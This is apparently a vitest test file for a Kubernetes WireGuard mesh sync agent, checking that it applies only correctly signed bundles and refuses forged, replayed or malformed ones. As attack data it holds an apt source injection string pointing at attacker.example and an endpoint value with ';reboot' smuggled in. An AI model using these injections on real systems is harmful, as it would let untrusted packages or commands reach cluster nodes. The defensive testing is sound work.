// The rendered mesh sync agent, run for real (dash, openssl, grep, sed, nginx -t) against a scratch root, with stand-ins
// only for what cannot run here: kubectl (the ConfigMap as kubectl's JSONPath prints it), wg, apt-get, kubeadm,
// systemctl. It must act on nothing but a bundle signed with the cluster's key, and refuse the rest changing nothing.
import { spawnSync } from 'node:child_process';
import { createPrivateKey, sign } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { BootstrapCluster } from './input.js';
import {
  MESH_BUNDLE_KEY,
  MESH_BUNDLE_SIGNATURE_KEY,
  MESH_SIGNING_PUBLIC_KEY_PATH,
  generateMeshSigningKeyPair,
  serializeMeshBundle,
  signMeshBundle,
  type MeshBundle,
} from './mesh-bundle.js';
import { generateClusterKeys, generateEcKeyPair, issueClusterPki, issueMeshReaderCertificate, type ClusterKeys, type ClusterPki } from './pki.js';
import { seededRandomSource } from './random.js';
import { renderCluster, type RenderedCluster, type RenderedNode } from './render.js';
import { generateWireguardKeyPair, type WireguardKeyPair } from './wireguard-keys.js';
import { MESH_READER_KUBECONFIG_PATH, MESH_SERIAL_PATH, MESH_SYNC_SCRIPT_PATH } from './wireguard-mesh.js';

const here = dirname(fileURLToPath(import.meta.url));
const ATTACK_VERSION = '1.35/deb/ /\ndeb [trusted=yes] http://attacker.example';
const NOW = new Date('2026-01-01T00:00:00Z');

let cluster: BootstrapCluster;
let keys: ClusterKeys;
let wireguardKeys: Record<string, WireguardKeyPair>;
let rendered: RenderedCluster;
const work = mkdtempSync(join(tmpdir(), 'kubeplane-mesh-agent-'));

beforeAll(async () => {
  for (const tool of ['dash', 'openssl', 'nginx', 'wg-quick']) {
    if (spawnSync('sh', ['-c', `command -v ${tool}`]).status !== 0) throw new Error(`'${tool}' is not installed (.ci/run installs it)`);
  }
  cluster = JSON.parse(readFileSync(resolve(here, '../../../../test/golden/hybrid/cluster.json'), 'utf8')) as BootstrapCluster;
  keys = await generateClusterKeys(cluster);
  const random = seededRandomSource('mesh-agent/wireguard');
  wireguardKeys = Object.fromEntries(cluster.nodes.map((n) => [n.name, generateWireguardKeyPair(random)]));
  rendered = await renderCluster({ cluster, keys, wireguardKeys, random: seededRandomSource('mesh-agent'), now: NOW });
}, 60_000);

afterAll(() => rmSync(work, { recursive: true, force: true }));

// kubectl prints a JSONPath template: `{"\n"}` is a literal, `\.` escapes a dot inside a key
// (kubernetes/kubernetes#31984, k8s.io/client-go/util/jsonpath); missing keys print nothing.
const FAKE_KUBECTL = `#!/usr/bin/env node
const fs = require('fs');
const dir = process.env.FAKE_DIR;
const args = process.argv.slice(2);
fs.appendFileSync(dir + '/calls.log', 'kubectl ' + args.join(' ') + '\\n');
const template = args[args.indexOf('-o') + 1].replace(/^jsonpath=/, '');
const object = args.includes('configmap')
  ? { data: JSON.parse(fs.readFileSync(dir + '/configmap.json', 'utf8')) }
  : { status: { nodeInfo: { kubeletVersion: fs.readFileSync(dir + '/reported', 'utf8').trim() } } };
process.stdout.write(template.replace(/\\{((?:[^}\\\\]|\\\\.)*)\\}/g, (_, expr) => {
  if (expr.startsWith('"')) return JSON.parse(expr);
  let value = object;
  for (const key of expr.replace(/^\\./, '').split(/(?<!\\\\)\\./)) value = value == null ? undefined : value[key.replace(/\\\\\\./g, '.')];
  return value == null ? '' : String(value);
}));
`;

const RECORDER = `#!/bin/sh
echo "\${0##*/} $*" >>"$FAKE_DIR/calls.log"
`;

const FAKE_WG = `#!/bin/sh
echo "wg $*" >>"$FAKE_DIR/calls.log"
case "$1" in
  show) cat "$FAKE_DIR/wg-public-key" ;;
  syncconf) cp "$3" "$FAKE_DIR/synced.conf" ;;
esac
`;

// The real nginx checks the configuration, with its error log and pid file in the scratch directory.
const NGINX = `#!/bin/sh
echo "nginx $*" >>"$FAKE_DIR/calls.log"
exec /usr/sbin/nginx -e "$FAKE_DIR/nginx-error.log" -g "pid $FAKE_DIR/nginx.pid;" "$@"
`;

interface FakeNode {
  name: string;
  root: string;
  dir: string;
  kubeconfig: string;
  run(data: Record<string, string>, opts?: { reported?: string; kubelet?: string }): { status: number | null; stdout: string; stderr: string };
  calls(): string[];
  file(path: string): string | undefined;
}

let counter = 0;
function fakeNode(node: RenderedNode, loadBalancer?: string): FakeNode {
  const dir = join(work, `${node.name}-${counter++}`);
  const root = join(dir, 'root');
  const bin = join(dir, 'bin');
  mkdirSync(bin, { recursive: true });
  for (const f of node.files) {
    const target = join(root, f.path);
    mkdirSync(dirname(target), { recursive: true });
    writeFileSync(target, f.content.reveal(), { mode: Number.parseInt(f.permissions, 8) });
  }
  // What the image has: apt's and nginx's directories.
  for (const d of ['/etc/apt/sources.list.d', '/etc/nginx']) mkdirSync(join(root, d), { recursive: true });
  const kubeconfig = join(root, loadBalancer ? MESH_READER_KUBECONFIG_PATH : '/etc/kubernetes/kubelet.conf');
  if (!loadBalancer) {
    mkdirSync(dirname(kubeconfig), { recursive: true });
    writeFileSync(kubeconfig, 'apiVersion: v1\nkind: Config\n');
  }
  const tools: Record<string, string> = {
    kubectl: FAKE_KUBECTL,
    wg: FAKE_WG,
    nginx: NGINX,
    'apt-get': RECORDER,
    'apt-mark': RECORDER,
    kubeadm: RECORDER,
    systemctl: RECORDER,
  };
  tools['kubelet'] = `#!/bin/sh\necho "Kubernetes $(cat "$FAKE_DIR/kubelet-version")"\n`;
  for (const [tool, text] of Object.entries(tools)) {
    writeFileSync(join(bin, tool), text);
    chmodSync(join(bin, tool), 0o755);
  }
  writeFileSync(join(dir, 'wg-public-key'), `${wireguardKeys[node.name]?.publicKey}\n`);
  writeFileSync(join(dir, 'calls.log'), '');
  return {
    name: node.name,
    root,
    dir,
    kubeconfig,
    run(data, opts = {}) {
      writeFileSync(join(dir, 'configmap.json'), JSON.stringify(data));
      writeFileSync(join(dir, 'reported'), opts.reported ?? 'v1.34.2');
      writeFileSync(join(dir, 'kubelet-version'), opts.kubelet ?? 'v1.34.2');
      const args = [join(root, MESH_SYNC_SCRIPT_PATH), kubeconfig, node.name.startsWith('aws-') ? 'nat' : 'direct', ...(loadBalancer ? [loadBalancer] : [])];
      const result = spawnSync('dash', args, {
        encoding: 'utf8',
        env: { PATH: `${bin}:/usr/sbin:/usr/bin:/sbin:/bin`, FAKE_DIR: dir, KUBEPLANE_MESH_ROOT: root, KUBEPLANE_NODE: node.name },
      });
      return { status: result.status, stdout: result.stdout, stderr: result.stderr };
    },
    calls: () => readFileSync(join(dir, 'calls.log'), 'utf8').split('\n').filter(Boolean),
    file: (path) => (existsSync(join(root, path)) ? readFileSync(join(root, path), 'utf8') : undefined),
  };
}

const nodeOf = (name: string): RenderedNode => {
  const n = rendered.nodes.find((x) => x.name === name);
  if (!n) throw new Error(`no node ${name}`);
  return n;
};

function bundle(overrides: Partial<MeshBundle> = {}): MeshBundle {
  return { serial: 5, peers: rendered.meshPeers, loadBalancers: {}, meshReaderCertificates: {}, ...overrides };
}

function signRaw(text: string, pem = keys.meshSigning.privateKeyPem.reveal()): Record<string, string> {
  const bytes = Buffer.from(text);
  return { [MESH_BUNDLE_KEY]: bytes.toString('base64'), [MESH_BUNDLE_SIGNATURE_KEY]: sign(null, bytes, createPrivateKey(pem)).toString('base64') };
}

const WG_CONF = '/etc/wireguard/wg0.conf';
const APT_LIST = '/etc/apt/sources.list.d/kubernetes.list';

/** Calls that change something (kubectl and `wg show` only read). */
const changes = (call: string) => !call.startsWith('kubectl ') && !call.startsWith('wg show ') && !call.startsWith('nginx -t ');

/** A refusal: exit 1 with the reason, and nothing on the node touched. */
function expectRefused(
  node: FakeNode,
  result: ReturnType<FakeNode['run']>,
  reason: RegExp,
  before: { wg: string | undefined; serial: string | undefined },
): void {
  expect(result.status, result.stdout + result.stderr).toBe(1);
  expect(result.stderr).toMatch(/kubeplane-mesh-sync: refused the mesh bundle: .*; nothing changed/);
  expect(result.stderr).toMatch(reason);
  expect(node.calls().filter(changes)).toEqual([]);
  expect(node.file(WG_CONF)).toBe(before.wg);
  expect(node.file(MESH_SERIAL_PATH)).toBe(before.serial);
  expect(node.file(APT_LIST)).toBeUndefined();
}

describe('the mesh sync agent on a worker', () => {
  it('applies a valid signed bundle: wg syncconf, and wg0.conf keeps its [Interface] and gains the peers (0600) so a reboot keeps them', () => {
    const node = fakeNode(nodeOf('aws-worker-1'));
    const interfaceBefore = (node.file(WG_CONF) ?? '').split('\n[Peer]')[0] ?? '';
    const added = {
      name: 'htz-worker-9',
      publicKey: generateWireguardKeyPair(seededRandomSource('w9')).publicKey,
      overlayIp: '192.168.2.39',
      endpoint: '49.12.0.39:51820',
      behindNat: false,
    };
    const result = node.run(signMeshBundle(bundle({ peers: [...rendered.meshPeers, added] }), keys.meshSigning.privateKeyPem));
    expect(result.stderr).toBe('');
    expect(result.status).toBe(0);
    expect(result.stdout).toContain('kubeplane-mesh-sync: applied bundle 5: 9 peers on wg0');
    const synced = readFileSync(join(node.dir, 'synced.conf'), 'utf8');
    expect(synced).toContain(
      `# htz-worker-9\nPublicKey = ${added.publicKey}\nAllowedIPs = 192.168.2.39/32\nEndpoint = 49.12.0.39:51820\nPersistentKeepalive = 25\n`,
    );
    expect(synced).not.toMatch(/^(Address|MTU)/m);
    expect(synced).not.toContain(`PublicKey = ${wireguardKeys['aws-worker-1']?.publicKey}`);
    const conf = node.file(WG_CONF) ?? '';
    expect(conf.startsWith(interfaceBefore.trimEnd())).toBe(true);
    expect(conf).toMatch(/^Address = 192\.168\.2\.21\/24$/m);
    expect(conf).toMatch(/^MTU = 1420$/m);
    expect(conf).toContain(`PrivateKey = ${wireguardKeys['aws-worker-1']?.privateKey.reveal()}`);
    expect(conf).toContain('# htz-worker-9\n');
    expect(statSync(join(node.root, WG_CONF)).mode & 0o777).toBe(0o600);
    expect(node.file(MESH_SERIAL_PATH)).toBe('5\n');
    // wg-quick, at boot, reads the file the agent wrote: it accepts it and sets up the same peers.
    const stripped = spawnSync('wg-quick', ['strip', join(node.root, WG_CONF)], { encoding: 'utf8' });
    expect(stripped.status, stripped.stderr).toBe(0);
    expect(stripped.stdout).toContain(`PublicKey = ${added.publicKey}`);
    expect(stripped.stdout.match(/\[Peer\]/g)).toHaveLength(8);
  });

  it('gives every peer with a known endpoint a keepalive, also between two nodes that are not behind NAT', () => {
    const node = fakeNode(nodeOf('htz-worker-1'));
    expect(node.run(signMeshBundle(bundle(), keys.meshSigning.privateKeyPem)).status).toBe(0);
    const synced = readFileSync(join(node.dir, 'synced.conf'), 'utf8');
    expect(synced).toMatch(/# lb-1\nPublicKey = \S+\nAllowedIPs = 192\.168\.2\.11\/32\nEndpoint = 49\.12\.0\.21:51820\nPersistentKeepalive = 25\n/);
    // No endpoint, neither side behind NAT: the peer speaks first (it knows ours).
    expect(synced).toMatch(/# htz-worker-2\nPublicKey = \S+\nAllowedIPs = 192\.168\.2\.32\/32\n(\n|$)/);
  });

  it('refuses the apt source injection in an unsigned upgrade-version: apt-get never runs and kubernetes.list is not written', () => {
    const node = fakeNode(nodeOf('aws-worker-1'));
    const before = { wg: node.file(WG_CONF), serial: node.file(MESH_SERIAL_PATH) };
    const attack = {
      peers: 'aws-worker-1 x 192.168.2.21 - nat\n',
      'upgrade-nodes': 'aws-worker-1',
      'upgrade-version': ATTACK_VERSION,
      'upgrade-package': '1.35.0-1.1',
      'upgrade-mode': 'node',
    };
    // Written next to a genuine bundle whose signature the attacker kept, the keys are simply not read; and in the bundle, the
    // bytes no longer match the signature.
    const genuine = signMeshBundle(bundle(), keys.meshSigning.privateKeyPem);
    const forged = Buffer.from(`${serializeMeshBundle(bundle())}upgrade ${ATTACK_VERSION} 1.35.0-1.1 node aws-worker-1\n`).toString('base64');
    expectRefused(
      node,
      node.run({ ...attack, [MESH_BUNDLE_KEY]: forged, [MESH_BUNDLE_SIGNATURE_KEY]: genuine[MESH_BUNDLE_SIGNATURE_KEY] ?? '' }),
      /signature does not verify/,
      before,
    );
    const unsigned = node.run(attack);
    expect(unsigned.stdout).toContain('no signed bundle published yet; nothing to do');
    expect(node.calls().filter(changes)).toEqual([]);
    expect(node.file(APT_LIST)).toBeUndefined();
  });

  it('refuses the injection even signed with the cluster key: every line must be one kubeplane writes', () => {
    const node = fakeNode(nodeOf('aws-worker-1'));
    const before = { wg: node.file(WG_CONF), serial: node.file(MESH_SERIAL_PATH) };
    const text = `${serializeMeshBundle(bundle())}upgrade ${ATTACK_VERSION} 1.35.0-1.1 node aws-worker-1\n`;
    expectRefused(node, node.run(signRaw(text)), /a line is not one kubeplane writes: upgrade 1\.35\/deb\/ \//, before);
  });

  it('refuses a bundle signed by another key', () => {
    const node = fakeNode(nodeOf('aws-worker-1'));
    const before = { wg: node.file(WG_CONF), serial: node.file(MESH_SERIAL_PATH) };
    expectRefused(
      node,
      node.run(signMeshBundle(bundle(), generateMeshSigningKeyPair().privateKeyPem)),
      /its signature does not verify with .*mesh-signing\.pub/,
      before,
    );
  });

  it('refuses a bundle with a tampered peer line', () => {
    const node = fakeNode(nodeOf('aws-worker-1'));
    const before = { wg: node.file(WG_CONF), serial: node.file(MESH_SERIAL_PATH) };
    const data = signMeshBundle(bundle(), keys.meshSigning.privateKeyPem);
    const text = Buffer.from(data[MESH_BUNDLE_KEY] ?? '', 'base64')
      .toString()
      .replace('3.120.10.11:51820', '203.0.113.66:51820');
    expectRefused(node, node.run({ ...data, [MESH_BUNDLE_KEY]: Buffer.from(text).toString('base64') }), /signature does not verify/, before);
  });

  it('refuses a replayed bundle with a lower serial than the one it applied', () => {
    const node = fakeNode(nodeOf('aws-worker-1'));
    expect(node.run(signMeshBundle(bundle({ serial: 9 }), keys.meshSigning.privateKeyPem)).status).toBe(0);
    writeFileSync(join(node.dir, 'calls.log'), '');
    const before = { wg: node.file(WG_CONF), serial: node.file(MESH_SERIAL_PATH) };
    const old = signMeshBundle(bundle({ serial: 8, peers: rendered.meshPeers.slice(0, 2) }), keys.meshSigning.privateKeyPem);
    expectRefused(node, node.run(old), /its serial 8 is below the last applied \(9\): a replay/, before);
  });

  it.each([
    ['a node name that is not DNS-1123', (t: string) => t.replace('peer htz-worker-2 ', 'peer htz_worker-2 ')],
    ['a WireGuard key of the wrong length', (t: string) => t.replace(/^(peer lb-1 \S{43})=/m, '$1x=')],
    ['an endpoint that is not host:port', (t: string) => t.replace('49.12.0.21:51820', '49.12.0.21:51820;reboot')],
    ['a package of another version', (t: string) => `${t}upgrade 1.35.0 1.36.0-1.1 node aws-worker-1\n`],
    ['a mode other than apply|node', (t: string) => `${t}upgrade 1.35.0 1.35.0-1.1 reset aws-worker-1\n`],
    ['the same overlay address twice', (t: string) => t.replace('192.168.2.32 ', '192.168.2.31 ')],
  ])('refuses %s, even signed, changing nothing', (_, change) => {
    const node = fakeNode(nodeOf('aws-worker-1'));
    const before = { wg: node.file(WG_CONF), serial: node.file(MESH_SERIAL_PATH) };
    const text = change(serializeMeshBundle(bundle()));
    expect(text).not.toBe(serializeMeshBundle(bundle()));
    expectRefused(node, node.run(signRaw(text)), /./, before);
  });

  it('carries out a signed upgrade instruction that names it: the minor repository, kubeadm upgrade node, the kubelet', () => {
    const node = fakeNode(nodeOf('aws-worker-1'));
    const upgrade = { nodes: ['aws-cp-2', 'aws-worker-1'], version: '1.35.0', package: '1.35.0-1.1', mode: 'node' as const };
    const result = node.run(signMeshBundle(bundle({ upgrade }), keys.meshSigning.privateKeyPem));
    expect(result.status, result.stderr).toBe(0);
    expect(node.file(APT_LIST)).toBe('deb [signed-by=/etc/apt/keyrings/kubernetes-apt-keyring.gpg] https://pkgs.k8s.io/core:/stable:/v1.35/deb/ /\n');
    expect(node.calls().filter((c) => !c.startsWith('kubectl ') && !c.startsWith('wg '))).toEqual([
      'apt-get update -q',
      'apt-mark unhold kubeadm kubelet kubectl',
      'apt-get install -y -q kubeadm=1.35.0-1.1',
      'kubeadm upgrade node',
      'apt-get install -y -q kubelet=1.35.0-1.1 kubectl=1.35.0-1.1',
      'apt-mark hold kubeadm kubelet kubectl',
      'systemctl daemon-reload',
      'systemctl restart kubelet',
    ]);
  });
});

describe('the mesh sync agent and old instructions', () => {
  it('never moves a node back: an instruction older than the kubelet it runs (a node made since, under the same name) is ignored', () => {
    const node = fakeNode(nodeOf('aws-worker-1'));
    const upgrade = { nodes: ['aws-worker-1'], version: '1.34.2', package: '1.34.2-1.1', mode: 'node' as const };
    const result = node.run(signMeshBundle(bundle({ upgrade }), keys.meshSigning.privateKeyPem), { reported: 'v1.35.0', kubelet: 'v1.35.0' });
    expect(result.status, result.stderr).toBe(0);
    expect(result.stdout).toContain('not upgrading to v1.34.2: the kubelet here is newer (v1.35.0)');
    expect(node.calls().filter((c) => c.startsWith('apt-get') || c.startsWith('kubeadm'))).toEqual([]);
    expect(node.file(APT_LIST)).toBeUndefined();
  });
});

describe('the mesh sync agent on a load balancer', () => {
  let pki: ClusterPki;
  beforeAll(async () => {
    pki = rendered.pki;
  });
  const lbNode = () => {
    const node = nodeOf('lb-1');
    return { node, lb: cluster.loadBalancers.find((l) => l.pools.includes(cluster.nodes.find((n) => n.name === 'lb-1')?.pool ?? ''))?.name ?? '' };
  };
  const certificateIn = (kubeconfig: string) => Buffer.from(/client-certificate-data: (\S+)/.exec(kubeconfig)?.[1] ?? '', 'base64').toString();

  it('installs a renewed mesh-reader certificate that chains to the cluster CA and is for its own key, and its nginx.conf after nginx -t', async () => {
    const { node, lb } = lbNode();
    const fake = fakeNode(node, lb);
    const self = cluster.nodes.find((n) => n.name === 'lb-1')!;
    const renewed = await issueMeshReaderCertificate(pki, self, keys.meshReader['lb-1']!, {
      random: seededRandomSource('renew'),
      now: new Date('2026-11-01T00:00:00Z'),
    });
    const nginx = (node.files.find((f) => f.path === '/etc/kubeplane/nginx.conf')?.content.reveal() ?? '').replace('# ', '# renewed ');
    const before = fake.file(MESH_READER_KUBECONFIG_PATH) ?? '';
    const result = fake.run(
      signMeshBundle(bundle({ loadBalancers: { [lb]: nginx }, meshReaderCertificates: { 'lb-1': renewed.certificatePem } }), keys.meshSigning.privateKeyPem),
    );
    expect(result.stderr).toBe('');
    expect(result.status).toBe(0);
    expect(result.stdout).toContain('installed the renewed mesh-reader certificate of lb-1');
    const after = fake.file(MESH_READER_KUBECONFIG_PATH) ?? '';
    expect(certificateIn(after)).toBe(renewed.certificatePem);
    expect(certificateIn(before)).not.toBe(renewed.certificatePem);
    // Only the certificate changed: the same CA, key and server.
    expect(after.replace(/client-certificate-data: \S+/, '')).toBe(before.replace(/client-certificate-data: \S+/, ''));
    expect(statSync(fake.kubeconfig).mode & 0o777).toBe(0o600);
    expect(fake.file('/etc/nginx/nginx.conf')).toBe(nginx);
    expect(fake.calls()).toEqual(expect.arrayContaining([expect.stringMatching(/^nginx -t -q -c /), 'systemctl reload nginx']));
  });

  it('refuses a certificate for another key, or from another CA, even in a signed bundle, changing nothing', async () => {
    const { node, lb } = lbNode();
    const self = cluster.nodes.find((n) => n.name === 'lb-1')!;
    const otherKey = await issueMeshReaderCertificate(pki, self, await generateEcKeyPair(), { random: seededRandomSource('k'), now: NOW });
    const otherKeys = await generateClusterKeys({ nodes: [] });
    const otherPki = await issueClusterPki(cluster, otherKeys, { random: seededRandomSource('ca'), now: NOW });
    const otherCa = await issueMeshReaderCertificate(otherPki, self, keys.meshReader['lb-1']!, { random: seededRandomSource('c'), now: NOW });
    for (const [cert, reason] of [
      [otherKey.certificatePem, /is not for this node's key/],
      [otherCa.certificatePem, /does not chain to the cluster CA/],
    ] as const) {
      const fake = fakeNode(node, lb);
      const before = { wg: fake.file(WG_CONF), serial: fake.file(MESH_SERIAL_PATH) };
      const kubeconfig = fake.file(MESH_READER_KUBECONFIG_PATH);
      expectRefused(fake, fake.run(signMeshBundle(bundle({ meshReaderCertificates: { 'lb-1': cert } }), keys.meshSigning.privateKeyPem)), reason, before);
      expect(fake.file(MESH_READER_KUBECONFIG_PATH)).toBe(kubeconfig);
    }
  });

  it('refuses an nginx configuration that nginx -t rejects, changing nothing', () => {
    const { node, lb } = lbNode();
    const fake = fakeNode(node, lb);
    const before = { wg: fake.file(WG_CONF), serial: fake.file(MESH_SERIAL_PATH) };
    const result = fake.run(
      signMeshBundle(bundle({ loadBalancers: { [lb]: 'stream { server { listen 80; proxy_pass; } }\n' } }), keys.meshSigning.privateKeyPem),
    );
    expect(result.status).toBe(1);
    expect(result.stderr).toMatch(/refused the mesh bundle: nginx -t does not accept the configuration of load balancer/);
    expect(fake.calls().filter(changes)).toEqual([]);
    expect(fake.file(WG_CONF)).toBe(before.wg);
    expect(fake.file('/etc/nginx/nginx.conf')).toBeUndefined();
  });

  it("carries the mesh signing public key in every node's user-data, and no private half anywhere", () => {
    for (const node of rendered.nodes) {
      expect(node.files.find((f) => f.path === MESH_SIGNING_PUBLIC_KEY_PATH)?.content.reveal(), node.name).toBe(keys.meshSigning.publicKeyPem);
      expect(node.cloudConfig.reveal()).not.toContain(keys.meshSigning.privateKeyPem.reveal().split('\n')[1]);
    }
  });
});
